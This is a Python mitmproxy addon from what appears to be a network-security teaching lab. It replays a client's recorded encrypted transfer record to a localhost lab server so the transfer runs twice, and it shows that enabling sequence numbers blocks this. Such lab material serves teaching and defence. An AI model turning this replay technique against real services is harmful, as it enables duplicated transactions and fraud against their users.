"""replay: record the client's transfer and send it again later in the same connection.

Seed 003 "加密数据传输": the attacker cannot read the ciphertext, but the server, seeing a valid record,
executes the transfer again. Once the server has answered the transfer, the recorded record goes to the
server a second time. With `sequence_numbers` on it arrives under the wrong counter and is refused.

    mitmlab server --no-sequence-numbers            # a record-layer setting: both sides must share it
    mitmdump -s addons/replay.py --mode reverse:tcp://127.0.0.1:4433@4434 --set lab_state_dir=state
    mitmlab client --connect 127.0.0.1:4434 --no-sequence-numbers transfer 100 bob   # paid twice
"""

from mitmproxy import ctx, tcp
from mitmproxy.addonmanager import Loader

from lab.channel.frames import Frame, FrameType
from lab.mitm.attack import FrameAttack
from lab.mitm.wire import flow_wire


class Replay(FrameAttack):
    attack = "replay"

    def load(self, loader: Loader) -> None:
        super().load(loader)
        loader.add_option(
            "lab_replay_record", int, 1, "Which client record to replay (0: login, 1: transfer)."
        )

    def on_frame(self, flow: tcp.TCPFlow, from_client: bool, frame: Frame) -> list[bytes]:
        if frame.type is not FrameType.APPLICATION:
            return [frame.encode()]
        wire, target = flow_wire(flow), ctx.options.lab_replay_record
        index = wire.view.records[from_client] - 1
        if from_client and index == target:
            flow.metadata["lab_recorded"] = frame.encode()
        elif not from_client and index == target and "lab_recorded" in flow.metadata:
            # The server has answered it: now the same record goes to the server a second time.
            wire.inject(flow, to_client=False, data=flow.metadata.pop("lab_recorded"))
            self.evidence.injected(flow, f"the client's record #{target} a second time", record=target)
        return [frame.encode()]


addons = [Replay()]
